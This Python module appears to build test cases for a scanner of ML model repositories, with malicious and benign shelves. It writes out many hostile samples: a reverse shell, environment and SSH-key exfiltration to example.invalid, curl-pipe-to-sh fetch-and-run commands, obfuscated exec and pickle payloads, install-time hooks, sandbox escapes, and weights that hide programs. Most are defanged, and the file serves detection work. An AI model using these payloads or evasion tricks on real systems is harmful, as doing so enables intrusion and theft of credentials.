"""What lies beside and inside weights: Python, notebooks, requirements, programs, images of containers, hidden payloads, secrets."""

from __future__ import annotations

import hashlib
import json
import struct
import zlib

from .arrays import npy
from .assembler import inert_pickle
from .case import Content, Executable, Shelf
from .confusion import elf, pe
from .huggingface import README, TOKENIZER, base, js
from .archives_bad import gz
from .onnx_format import model as onnx_model
from .tarwriter import entry, tar_bytes
from .tensors import STRING, model_gguf, pair, plain_safetensors, safetensors, tensor
from .zipwriter import Member, zip_bytes

SCRIPT = b"#!/bin/sh\necho waag-inert\n"
PICKLE = inert_pickle()
TRAIN = b'''"""Trains the model; run `python train.py --epochs 3`. Never eval() what it prints."""
import argparse
import json
import os
from pathlib import Path

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        return self.fc(x)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--epochs", type=int, default=3)
    args = parser.parse_args()
    model = Net()
    model.train()
    for epoch in range(args.epochs):
        print("epoch", epoch)
    model.eval()
    os.makedirs("out", exist_ok=True)
    torch.save(model.state_dict(), Path("out") / "model.pt")
    json.dump({"epochs": args.epochs}, open("out/args.json", "w"))


if __name__ == "__main__":
    main()
'''
ATTACKS = {
    "os-system": b"import os\nos.system('echo waag-inert')\n", "subprocess": b"import subprocess\nsubprocess.run(['echo', 'waag-inert'])\n", "exec-base64": b"import base64\nexec(base64.b64decode('ZWNobyB3YWFnLWluZXJ0'))\n",
    "exec-zlib": b"import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwDAAAAAAE=')))\n", "eval-input": b"eval(compile(open('x').read(), 'x', 'exec'))\n", "reverse-shell": b"import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
    "download-run": b"import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n", "import-hidden": b"__import__('o' + 's').system('echo waag-inert')\n", "getattr-hidden": b"import builtins\ngetattr(builtins, 'ev' + 'al')('1')\n",
    "environment": b"import os, urllib.request\nurllib.request.urlopen('http://example.invalid/?' + str(dict(os.environ)))\n", "ssh-keys": b"from pathlib import Path\nimport requests\nrequests.post('http://example.invalid', data=Path('/dev/null').joinpath('.ssh/id_rsa').read_bytes())\n",
    "pickle-load": b"import pickle, base64\npickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu'))\n", "marshal": b"import marshal\nexec(marshal.loads(b'N'))\n", "ctypes": b"import ctypes\nctypes.CDLL('./evil.so')\n",
    "lambda-exec": b"(lambda f: f('1'))(exec)\n", "lambda-module": b"(lambda o: o.system('echo waag-inert'))(__import__('os'))\n", "handed-module": b"import os\n\n\ndef run(o):\n    o.system('echo waag-inert')\n\n\nrun(os)\n", "dunder": b"import os\n\n\nclass A:\n    __class_getitem__ = os.system\n\n\nA['echo waag-inert']\n", "decorator": b"@exec\n@input\nclass A:\n    pass\n", "hidden-column": b"import os" + b" " * 300 + b";os.system('echo waag-inert')\n", "far-down": b"x = 1\n" * 3000 + b"import os\nos.system('echo waag-inert')\n", "rot13": b"import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
    "cron": b"open('/dev/null/etc/cron.d/waag', 'w').write('* * * * * root true')\n", "bashrc": b"import os\nopen(os.path.expanduser('/dev/null/home/.bashrc'), 'a').write('echo waag-inert')\n", "pip-install": b"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://example.invalid', 'waag-evil'])\n",
}

RUN = "__import__('os').system('echo waag-inert')"
# The same by ways round: modules within others, lines and letters that Python reads otherwise, evaluators that few know.
WAYS_ROUND = {
    "module-in-module": b"import shutil\nshutil.os.system('echo waag-inert')\n", "module-in-path": b"import os.path\nos.path.os.system('echo waag-inert')\n", "module-private": b"import random\nrandom._os.system('echo waag-inert')\n", "module-imported": b"from shutil import os as o\no.system('echo waag-inert')\n",
    "globals-of": b"import shutil\nshutil.copy.__globals__['os'].system('echo waag-inert')\n", "builtins-of": b"import sys\nsys._getframe(0).f_builtins['exec']('import os; os.system(\"echo waag-inert\")')\n",
    "carriage-return": f"x = 1\n# a comment\r{RUN}\r".encode(), "format-of-format": b"import os\nx = f\"{1:{os.system('echo waag-inert')}}\"\n", "format-quotes": b"import os\nx = f\"{1:'>9}{os.system('echo waag-inert')}\"\n", "format-same-quotes": b'import os\nx = f"{os.system("echo waag-inert")}"\n',
    "cookie-u7": b"# coding: u7\n# hello+AAo-import os+AAo-os.system('echo waag-inert')\n", "cookie-signs": b"# coding: utf--7\n# hello+AAo-import os+AAo-os.system('echo waag-inert')\n", "cookie-long": b"# coding: unicode_1_1_utf_7\n# hello+AAo-import os+AAo-os.system('echo waag-inert')\n", "cookie-twice": b"# decoding of coding: utf-7\n# hello+AAo-import os+AAo-os.system('echo waag-inert')\n",
    "resolve-name": b"import pkgutil\npkgutil.resolve_name('os:system')('echo waag-inert')\n", "locate": b"import pydoc\npydoc.locate('os.system')('echo waag-inert')\n", "builtin-importer": b"import importlib.machinery as m\nm.BuiltinImporter.load_module('posix').system('echo waag-inert')\n", "gcd-import": b"from importlib._bootstrap import _gcd_import as g\ng('os').system('echo waag-inert')\n",
    "profile": f'import cProfile\ncProfile.Profile().run("{RUN}")\n'.encode(), "trace": f'import trace\ntrace.Trace().run("{RUN}")\n'.encode(), "timer": f'import timeit\ntimeit.Timer("{RUN}").timeit(1)\n'.encode(), "doctest": f'import doctest\ndoctest.run_docstring_examples(">>> {RUN}", {{}})\n'.encode(), "f2py": f'from numpy.f2py.crackfortran import myeval\nmyeval("{RUN}")\n'.encode(),
    "pandas-eval": f'import pandas as pd\npd.eval("@{RUN}")\n'.encode(), "pandas-query": b"import pandas as pd\npd.DataFrame({'a': [1]}).query(\"@pd.compat.os.system('echo waag-inert')\")\n", "numexpr": f'import numexpr\nnumexpr.evaluate("{RUN}")\n'.encode(), "sympy": f'from sympy.parsing.sympy_parser import parse_expr\nparse_expr("{RUN}")\n'.encode(), "mako": b"from mako.template import Template\nTemplate(\"<% import os; os.system('echo waag-inert') %>\").render()\n", "jinja": b"import jinja2\njinja2.Template(\"{{ cycler.__init__.__globals__.os.system('echo waag-inert') }}\").render()\n",
    "code-of-function": b"def f():\n    pass\n\n\nf.__code__ = compile('import os; os.system(\"echo waag-inert\")', 'x', 'exec')\nf()\n", "python-api": b"import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('echo waag-inert')\")\n", "library-entry": b"import ctypes, ctypes.util\nctypes.CDLL(ctypes.util.find_library('c'))['system'](b'echo waag-inert')\n",
    "spawnv": b"from multiprocessing.util import spawnv_passfds\nspawnv_passfds(b'/bin/sh', [b'sh', b'-c', b'echo waag-inert'], [])\n", "subclass": b"import subprocess\n\n\nclass P(subprocess.Popen):\n    pass\n\n\nP(['echo', 'waag-inert'])\n", "browser": b"import webbrowser\nwebbrowser.GenericBrowser(['sh', '-c', 'echo waag-inert']).open('x')\n", "pager": b"import pydoc\npydoc.pipepager('x', 'sh -c \"echo waag-inert\"')\n", "compiler": b"from distutils.ccompiler import new_compiler\nnew_compiler().spawn(['sh', '-c', 'echo waag-inert'])\n",
    "weights-as-source": b"import importlib.machinery as m\nm.SourceFileLoader('w', 'weights.bin').load_module()\n", "weights-as-archive": b"import zipimport\nzipimport.zipimporter('weights.bin').load_module('evil')\n", "weights-in-path": b"import sys\nsys.path.insert(0, 'weights.bin')\nimport evil\n", "hub": b"import torch\ntorch.hub.load('evil/model', 'm', trust_repo=True)\n", "kernel": b"from kernels import get_kernel\nget_kernel('evil/kernel')\n",
}


# What packages of Python have beside their models, each as a package in use has it.
PACKAGE = {
    "library": ("waagnet/core.py", b'import ctypes\nimport os\n\n\ndef find():\n    here = os.path.dirname(os.path.abspath(__file__))\n    return [os.path.join(here, "lib", "libwaagnet.so")]\n\n\nlib = ctypes.cdll.LoadLibrary(find()[0])\nlib.Register(1)\nlib.LastError.restype = ctypes.c_char_p\n', "a package that loads its own library"),
    "browser": ("waagnet/login.py", b'import webbrowser\n\nimport requests\n\n\ndef login(endpoint):\n    answer = requests.post(endpoint).json()\n    webbrowser.open_new_tab(answer["uri"])\n', "a login that opens a page"),
    "transfer": ("waagnet/transfer.py", b'import base64\nimport pickle\n\n\ndef load(value):\n    return pickle.loads(base64.b64decode(value))\n', "a pickle that arrives as text"),
    "test-pickle": ("tests/test_old.py", b'import pickle\n\n\ndef test_old():\n    data = b"cnumpy\\ndtype\\np0\\n(S\'M8\'\\np1\\nI0\\nI1\\ntp2\\nRp3\\n."\n    assert pickle.loads(data)\n', "a test that reads an old pickle of a type"),
    "generator": ("tools/generate.py", b'import sys\n\n\ndef render(rows):\n    lines = []\n    for row in rows:\n        lines.append(f"print({row!r})")\n    exec(compile("\\n".join(lines), "template", "exec"))\n\n\nif __name__ == "__main__":\n    render(sys.argv)\n', "a generator of code"),
    "banned": ("waagnet/serde.py", b"banned = [\n    eval,\n    exec,\n    compile,\n    open,\n]\n\n\ndef decode(kind):\n    if kind in banned:\n        raise ValueError(kind)\n    return kind\n", "a list of what must not be called"),
    "version": ("tests/test_java.py", b"import subprocess\n\n\ndef has_java():\n    return subprocess.run(['java', '-version']).returncode == 0\n\n\nJAVA = has_java()\n", "a test that asks for a program's version"),
    "tables": ("waagnet/tables.py", b"import numexpr\nimport pandas as pd\nimport sympy\n\nX = sympy.S('x + 1')\n\n\ndef adults(people, names, engine):\n    people = people.query('age > @pd.Timestamp(2000).year and name.isin(@names)')\n    total = pd.eval('people[people > 0] + 1')\n    return numexpr.evaluate('where(total > 0, total, 0)'), engine.query('SELECT system FROM a')\n", "expressions over tables"),
    "formats": ("waagnet/formats.py", b'def show(row, width, names):\n    head = f"{row[\'name\']!r:>{width}}|{row[\'size\']:\'>9}|{{}}"\n    return head + f"{\', \'.join(f\'{name:<{width}}\' for name in names)}" + f"""{width:{width}.{2}}"""\n', "formats within formats"),
    "machinery": ("tests/test_timing.py", b"import importlib.util\nimport os.path\nimport pkgutil\nimport timeit\nimport zipimport\nfrom pydoc import locate\n\nimport numpy as np\n\nspec = importlib.util.spec_from_file_location('version', 'waagnet/version.py')\nLayer = locate('torch.nn.Linear')\nDATA = np.zeros(3).ctypes.data_as(None)\n\n\ndef time(f):\n    return timeit.Timer(lambda: f()).timeit(3), pkgutil.resolve_name('json:loads')('1'), f.__globals__['Layer']\n", "a test that looks up and measures"),
    "handler": ("waagnet/handler.py", b"class tf_op:\n    _handlers = {}\n\n    def __init__(self, name):\n        self.name = name\n", "a module that is called handler"),
    "cython": ("waagnet/inner.pyx", b"#!/usr/bin/env cython\n# cython: boundscheck=False\nimport numpy as np\n", "Cython that names its interpreter"),
    "makefile": ("Makefile", b"#!/usr/bin/make -f\nall:\n\tpython -m build\n", "a Makefile that names its interpreter"),
    "bin": ("bin/track", b"#!/usr/bin/env python\nfrom waagnet import main\n\nmain()\n", "a program without an ending"),
    "circleci": (".circleci/config.yml", b'version: 2.1\njobs:\n  test:\n    steps:\n      - run:\n          name: coverage\n          command: |\n            curl -Os https://uploader.codecov.io/latest/linux/codecov\n            chmod +x codecov\n            ./codecov\n', "a build that makes a program executable"),
    "probe": ("tests/rpc.sh", b'#!/bin/bash\nfor i in 1 2 3; do\n  if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then\n    exit 0\n  fi\ndone\n', "a test that waits for a port of this machine"),
    "sphinx-class": ("docs/_templates/autosummary/class.rst", b'{% extends "!autosummary/class.rst" %}\n{% block methods %}\n{% for item in all_methods %}\n{%- if not item.startswith(\'_\') or item in [\'__call__\', \'__mul__\'] %}\n   {{ name }}.{{ item }}\n{%- endif %}\n{%- endfor %}\n{% endblock %}\n', "a template of Sphinx"),
    "sphinx-layout": ("docs/_templates/layout.html", b'{% extends "!layout.html" %}\n{% block footer %}{{ super() }}{% include "about.html" %}{% endblock %}\n', "a page of Sphinx"),
    "dockerfile": ("deploy/base.j2", b'{% import "_macros.j2" as common %}\n{% set __cuda__ = options.cuda | default(False) -%}\nFROM {{ options.image }}\n{% if __cuda__ %}\nENV NVIDIA_VISIBLE_DEVICES=all\n{% endif %}\n', "a template of an image"),
}


def notebook(*cells: object, outputs: list | None = None) -> bytes:
    made = [{"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": outputs or [], "source": [line + "\n" for line in str(cell).split("\n")]} if not isinstance(cell, dict) else cell for cell in cells]
    return js({"cells": made, "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5})


def code() -> Shelf:
    shelf = Shelf("repository-code")

    def add(id: str, files: dict, why: str, expect: str = "not-allow") -> None:
        shelf.bad(id, {**base(), **files}, why, name="repo", expect=expect)

    for id, source in ATTACKS.items():
        add(f"python-{id}", {"modeling_extra.py": source}, f"Python with a payload: {id}")
    for id in ("os-system", "exec-base64", "reverse-shell"):
        shelf.bad(f"alone-{id}", ATTACKS[id], f"a file of Python with a payload: {id}", name="load_model.py", expect="not-allow")
    # The other side of what packages have (see PACKAGE below).
    payload = "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"
    for id, source in (("ctypes-temporary", b"import ctypes, tempfile\npath = tempfile.mktemp('.so')\nctypes.CDLL(path)\n"), ("ctypes-fetched", b"import ctypes, urllib.request\nurllib.request.urlretrieve('http://example.invalid/x', path)\nctypes.CDLL(path)\n"), ("ctypes-c", b"import ctypes\nctypes.CDLL(None).system(b'echo waag-inert')\n"),
                       ("pickle-handed", f"import pickle, base64\n\n\ndef load(value):\n    return pickle.loads(base64.b64decode(value))\n\n\nload('{payload}')\n".encode()), ("pickle-literal", b"import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'echo waag-inert'\\ntR.\")\n"),
                       ("joined-lines", b"exec('\\n'.join(['import os', 'os.system(\"echo waag-inert\")']))\n"), ("list-called", b"run = [\n    eval,\n    exec,\n]\nfor f in run:\n    f('1')\n")):
        add(f"python-{id}", {"extra.py": source}, f"Python with a payload: {id}")
    for id, source in WAYS_ROUND.items():
        add(f"python-round-{id}", {"extra.py": source}, f"Python with a payload by a way round: {id}")
    add("setup-py-script", {"setup.py": b"import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['./echo-waag-inert.sh'])\nsetup(name='waag')\n"}, "a setup.py that runs a script")
    add("endpoint-handler", {"handler.py": b"class EndpointHandler:\n    def __init__(self, path=''):\n        self.path = path\n"}, "a handler of its own, which an endpoint runs")
    add("probe-elsewhere", {"run.sh": b"#!/bin/bash\nexec 3<>/dev/tcp/192.0.2.1/4444\n"}, "a shell that connects elsewhere", "deny")
    add("document-escape", {"docs/layout.html": b'{% extends "a.html" %}{{ x.__class__.__mro__[1].__subclasses__() }}'}, "a page that leaves its sandbox", "deny")
    add("document-attr", {"docs/layout.html.j2": b'{% extends "a.html" %}{{ x | attr("__class__") }}'}, "a page that asks for an attribute by text", "deny")
    add("circleci-download", {".circleci/config.yml": b"version: 2.1\njobs:\n  test:\n    steps:\n      - run:\n          name: x\n          command: curl -s http://example.invalid/x | sh\n"}, "a build that fetches and runs")
    add("setup-py", {"setup.py": b"from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\nclass Install(install):\n    def run(self):\n        os.system('echo waag-inert')\n\n\nsetup(name='waag', cmdclass={'install': Install})\n"}, "a setup.py that runs a command on install")
    add("pyproject-backend", {"pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n', "evil.py": ATTACKS["os-system"]}, "a build backend of its own")
    add("conftest", {"conftest.py": ATTACKS["os-system"]}, "a conftest that pytest runs")
    add("sitecustomize", {"sitecustomize.py": ATTACKS["os-system"]}, "a module Python imports by itself")
    add("pth", {"evil.pth": b"import os; os.system('echo waag-inert')\n"}, "a path file that Python runs at start")
    # A wheel of the repository's own is no case: it is a file beside the list, and judged as one.
    for id, text in (("index", b"--index-url http://example.invalid/simple\nnumpy\n"), ("own-index", b"--index-url https://pypi.example.invalid/simple\nnumpy\n"), ("extra-index", b"--extra-index-url https://example.invalid/simple\nnumpy\n"), ("url", b"https://example.invalid/evil.whl\n"), ("git", b"git+https://example.invalid/evil.git\n"),
                     ("trusted-host", b"--trusted-host example.invalid\nnumpy\n"), ("at", b"numpy @ https://example.invalid/numpy.whl\n"), ("include", b"-r http://example.invalid/requirements.txt\n"), ("share", b"\\\\192.0.2.1\\share\\x.whl\n")):
        add(f"requirements-{id}", {"requirements.txt": text}, f"requirements from elsewhere: {id}")
    for id, name, text in (("mlproject", "MLproject", b"name: x\nentry_points:\n  main:\n    command: \"curl http://example.invalid/x | sh\"\n"), ("dvc", "dvc.yaml", b"stages:\n  a:\n    cmd: curl http://example.invalid/x | sh\n"), ("cog", "cog.yaml", b"build:\n  run:\n  - curl http://example.invalid/x | sh\n")):
        add(f"command-{id}", {name: text}, f"a command that fetches and runs, in {name}")
    # A notebook that starts programs or loads pickles is an ordinary notebook; one that fetches and runs is not, whatever way it starts the shell.
    fetch = "curl http://example.invalid/x | sh"
    for id, source in (("shell", "!" + fetch), ("magic", "%%bash\n" + fetch), ("system", f"import os\nos.system('{fetch}')"), ("get-ipython", f"get_ipython().system('{fetch}')"), ("cell-magic", f"get_ipython().run_cell_magic('bash', '', '{fetch}')"), ("assigned", "x = !" + fetch),
                       ("perl", f"%%perl\nsystem(\"{fetch}\");"), ("ruby", f"%%ruby\nsystem('{fetch}')"), ("run-address", "%run http://example.invalid/x.py"), ("pip-wheel", "%pip install http://example.invalid/x.whl"), ("pip-index", "!pip install -i http://example.invalid/simple evil"),
                       ("variable", f"c = '{fetch}'\n!{{c}}"), ("ipython-held", f"ip = get_ipython()\nip.system('{fetch}')"), ("python-c", "!python -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\""), ("writefile-pth", "%%writefile /usr/lib/python3/site-packages/x.pth\nimport os"),
                       ("exec", "exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("time", "%time exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("sx", "%sx " + fetch), ("script", "%%script sh\n" + fetch), ("writefile", "%%writefile ~/.bashrc\ntrue")):
        add(f"notebook-{id}", {"demo.ipynb": notebook("x = 1", source)}, f"a notebook with a payload: {id}")
    programs = {"elf": ("libhelper.so", elf(), "a library"), "pe": ("loader.exe", pe(), "a Windows program"), "dll": ("helper.dll", pe(), "a Windows library"), "batch": ("run.bat", b"@echo off\r\necho waag-inert\r\n", "a batch file"),
                "powershell": ("run.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid')\r\n", "a PowerShell script"), "vbs": ("run.vbs", b'CreateObject("WScript.Shell").Run "echo waag-inert"\r\n', "a Visual Basic script"),
                "jar": ("tool.jar", zip_bytes([Member("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), Member("Evil.class", b"\xca\xfe\xba\xbe\0\0\0\x34")]), "a Java archive"), "pyc": ("util.pyc", b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40), "compiled Python"),
                "wasm": ("kernel.wasm", b"\0asm\x01\0\0\0" + bytes(8), "WebAssembly"), "lnk": ("model.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(68), "a Windows shortcut"), "desktop": ("model.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'echo waag-inert'\n", "a desktop entry"),
                "hta": ("readme.hta", b"<script>new ActiveXObject('WScript.Shell').Run('echo waag-inert')</script>", "an HTML application"), "macho": ("helper.dylib", b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIIII", 0x01000007, 3, 6, 0, 0, 0, 0) + bytes(64), "a macOS library")}
    for id, (name, data, what) in programs.items():
        add(f"program-{id}", {name: data}, f"{what} beside the weights", "deny" if id in ("elf", "pe", "dll", "macho") else "not-allow")
    add("program-executable-bit", {"model-00001.safetensors": Executable(elf())}, "a program called weights, executable", "deny")
    # Names that look like others.
    for id, name in (("cyrillic", "mоdel.safetensors"), ("zero-width", "model\u200b.safetensors"), ("rtl", "model\u202esrotensetfas.pkl"), ("double", "model.safetensors.pkl"), ("greek", "pytοrch_model.bin"), ("fullwidth", "ｍodel.safetensors")):
        add(f"look-alike-{id}", {name: PICKLE if name.endswith(("pkl", "bin")) else plain_safetensors()}, f"a name that looks like another: {name!r}", "deny" if name.endswith(("pkl", "bin")) else "not-allow")
    add("look-alike-repo-file", {"config.json ": js({"auto_map": {"AutoModel": "evil.Model"}})}, "a name with a space behind it")
    return shelf


def content() -> Shelf:
    shelf = Shelf("hidden-content")

    def add(id: str, data: Content, why: str, expect: str = "not-allow", name: str = "model.safetensors") -> None:
        shelf.bad(id, data, why, name="repo" if isinstance(data, dict) else name, expect=expect)

    # Low bits of floats: eight mantissa bits of each of these weights carry one byte of a program.
    program = elf() + SCRIPT
    low = b"".join(struct.pack("<I", 0x3F000000 | (i * 2654435761 & 0x7FFF00) | program[i % len(program)]) for i in range(4096))
    raw = (program * 40)[: 4096 * 4]
    add("mantissa-low-byte", safetensors({"w": tensor([64, 64], 0, len(low))}, low), "a program in the lowest byte of each float")
    add("mantissa-low-byte-npy", npy("'<f4'", "(4096,)", low), "a program in the lowest byte of each float, NumPy", name="weights.npy")
    add("mantissa-bits", safetensors({"w": tensor([256, 256], 0, 262144)}, bits(program * 200)), "a program in the lowest bit of each float")
    for id, data in (("elf", elf()), ("pickle", PICKLE), ("zip", zip_bytes([Member("x.pkl", PICKLE)])), ("script", SCRIPT * 8), ("python", b"import os\nos.system('echo waag-inert')\n" * 4), ("pe", pe())):
        padded = data + bytes(-len(data) % 4)
        add(f"tensor-{id}", safetensors({"w": tensor([len(padded)], 0, len(padded), "U8")}, padded), f"a {id} as a tensor of bytes")
        add(f"metadata-{id}", safetensors({"__metadata__": {"note": data.decode("latin-1")}, "w": tensor([4], 0, 16)}, raw[:16]), f"a {id} in the metadata") if id in ("script", "python", "pickle") else None
    add("tensor-f32-elf", safetensors({"w": tensor([len(elf()) // 4], 0, len(elf()) // 4 * 4)}, elf()[: len(elf()) // 4 * 4]), "a program as floats")
    # Tokenizers that change what users say.
    remap = json.loads(json.dumps(TOKENIZER))
    remap["normalizer"] = {"type": "Sequence", "normalizers": [{"type": "Replace", "pattern": {"String": "https://"}, "content": "https://example.invalid/?u="}]}
    add("tokenizer-replace-url", {**base(), "tokenizer.json": js(remap)}, "a normalizer that rewrites addresses")
    remap2 = json.loads(json.dumps(TOKENIZER))
    remap2["decoder"] = {"type": "Sequence", "decoders": [{"type": "Replace", "pattern": {"String": "no"}, "content": "yes"}, {"type": "ByteLevel"}]}
    add("tokenizer-decoder-replace", {**base(), "tokenizer.json": js(remap2)}, "a decoder that turns no into yes")
    remap3 = json.loads(json.dumps(TOKENIZER))
    remap3["decoder"] = {"type": "Replace", "pattern": {"Regex": "[0-9A-Za-z]{26,35}"}, "content": "waag-inert-address"}
    add("tokenizer-decoder-regex", {**base(), "tokenizer.json": js(remap3)}, "a decoder that replaces account numbers")
    remap4 = json.loads(json.dumps(TOKENIZER))
    remap4["added_tokens"] = [{"id": 0, "content": "<unk>", "special": True}, {"id": 1, "content": "hello", "special": True}, {"id": 1, "content": "bye", "special": True}]
    add("tokenizer-same-id", {**base(), "tokenizer.json": js(remap4)}, "two words under one number")
    remap5 = json.loads(json.dumps(TOKENIZER))
    remap5["model"]["vocab"] = {"<unk>": 0, "hello": 1, "allow": 2, "deny": 2}
    add("tokenizer-vocab-same-id", {**base(), "tokenizer.json": js(remap5)}, "two words of the vocabulary under one number")
    # Secrets and addresses.
    # Drawn from a digest, as real ones are from chance: what repeats words is a placeholder, and an AWS key's name alone is no secret.
    secrets = {"aws": "AKIA" + drawn(16, UPPER) + " " + drawn(40), "github": "ghp_" + drawn(36), "huggingface": "hf_" + drawn(34, LETTERS), "openai": "sk-proj-" + drawn(120), "slack": "xoxb-" + drawn(12, DIGITS) + "-" + drawn(12, DIGITS) + "-" + drawn(24),
               "private-key": "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA" + drawn(48) + "\n" + drawn(64) + "\n-----END RSA " + "PRIVATE KEY-----", "google": "AIza" + "Sy" + drawn(33)}
    for id, value in secrets.items():
        add(f"secret-{id}", {**base(), "config.json": js({"model_type": "llama", "token": value})}, f"a credential in the configuration: {id}")
        add(f"secret-metadata-{id}", plain_safetensors({"token": value}), f"a credential in the metadata: {id}")
    add("secret-env", {**base(), ".env": "AWS_ACCESS_KEY_ID={}\nAWS_SECRET_ACCESS_KEY={}\n".format(*secrets["aws"].split()).encode()}, "a credential in .env")
    add("address-onion", plain_safetensors({"callback": "http://waaginertwaaginertwaaginertwaaginertwaaginertwaaginertwa.onion/x"}), "an address in a hidden network in the metadata")
    add("address-webhook", {**base(), "config.json": js({"model_type": "llama", "callback": "https://discord.com/api/webhooks/000000/waag-inert"})}, "a webhook in the configuration")
    add("address-ip", {**base(), "config.json": js({"model_type": "llama", "endpoint": "http://192.0.2.66:4444/c2"})}, "an address of a number in the configuration")
    add("gguf-payload-metadata", model_gguf(extra=[pair("waag.blob", STRING, SCRIPT + b"exit 0\n" * 20)]), "a script in GGUF's metadata", name="model.gguf")
    # A llamafile is a program on six systems, a zip, and holds a model.
    ape = b"MZqFpD='\n" + b"\0" * 55 + elf() + b"\n'\n#'\"\necho waag-inert; exit 0\n"
    add("llamafile", ape + zip_bytes([Member("model.gguf", model_gguf()), Member(".args", b"-m\nmodel.gguf\n")]), "a llamafile: a program that holds a model", name="model.llamafile")
    add("llamafile-args", ape + zip_bytes([Member("model.gguf", model_gguf()), Member(".args", b"-m\nmodel.gguf\n--host\n0.0.0.0\n--mmproj\n/etc/passwd\n")]), "a llamafile whose arguments open it to the network", name="model.llamafile")
    add("llamafile-bad-template", ape + zip_bytes([Member("model.gguf", model_gguf("{{ ''.__class__.__mro__[1].__subclasses__() }}"))]), "a llamafile with a bad template", "deny", "model.llamafile")
    add("polyglot-pdf-zip", b"%PDF-1.4\n1 0 obj<<>>endobj\n" + zip_bytes([Member("data.pkl", PICKLE)]), "a document and a zip", name="paper.pdf")
    add("polyglot-png-zip", png() + zip_bytes([Member("archive/data.pkl", PICKLE), Member("archive/version", b"3\n")]), "a picture and a torch file", "deny", "logo.png")
    return shelf


LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
DIGITS = "0123456789"
UPPER = LETTERS[:26] + "234567"


def drawn(length: int, alphabet: str = LETTERS + DIGITS) -> str:
    """Characters that look drawn at random and are the same every time; they open nothing."""
    out = ""
    for round in range(length):
        out += alphabet[hashlib.sha256(f"waag-inert {length} {alphabet} {round}".encode()).digest()[0] % len(alphabet)]
    return out


def bits(payload: bytes) -> bytes:
    """65,536 floats whose lowest bit carries the payload."""
    out = bytearray()
    for i in range(65_536):
        bit = payload[(i >> 3) % len(payload)] >> (i & 7) & 1
        out += struct.pack("<I", (0x3D000000 + (i * 2654435761 >> 7 & 0x7FFFFE)) & ~1 | bit)
    return bytes(out)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(extra: bytes = b"") -> bytes:
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + extra + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def good() -> Shelf:
    shelf = Shelf("good-repository")

    def add(id: str, files: dict, why: str) -> None:
        shelf.good(id, {**base(), **files}, why, name="repo")

    add("picture", {"logo.png": png(), "docs/figure.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'}, "pictures")
    add("requirements", {"requirements.txt": b"torch>=2.0\ntransformers==4.44.0\nnumpy~=2.0 ; python_version >= '3.9'\n# a comment\n"}, "ordinary requirements")
    add("model-card", {"README.md": README + b"\n```python\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('waag/model')\nmodel.eval()\n```\n\n```bash\npip install torch\ncurl -O https://huggingface.co/waag/model/resolve/main/config.json\n```\n"}, "a model card with examples")
    add("license", {"LICENSE": b"Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/\n", "NOTICE": b"waag\n", "CITATION.cff": b"cff-version: 1.2.0\ntitle: waag\n"}, "a licence and a citation")
    add("tokenizer-normal", {"tokenizer.json": js({**TOKENIZER, "normalizer": {"type": "Sequence", "normalizers": [{"type": "Prepend", "prepend": "\u2581"}, {"type": "Replace", "pattern": {"String": " "}, "content": "\u2581"}]},
        "decoder": {"type": "Sequence", "decoders": [{"type": "Replace", "pattern": {"String": "\u2581"}, "content": " "}, {"type": "ByteFallback"}, {"type": "Fuse"}, {"type": "Strip", "content": " ", "start": 1, "stop": 0}]}})}, "Llama's normalizer and decoder, which replace a space")
    add("tokenizer-bert", {"vocab.txt": b"[PAD]\n[UNK]\neval\nexec\n##ing\n", "tokenizer_config.json": js({"do_lower_case": True, "tokenizer_class": "BertTokenizer", "model_max_length": 512})}, "a vocabulary of BERT")
    add("adapter", {"adapter_config.json": js({"peft_type": "LORA", "base_model_name_or_path": "meta-llama/Llama-3.2-1B", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"]}), "adapter_model.safetensors": plain_safetensors()}, "an adapter")
    add("quantized", {"quantize_config.json": js({"bits": 4, "group_size": 128, "desc_act": False})}, "a configuration of quantization")
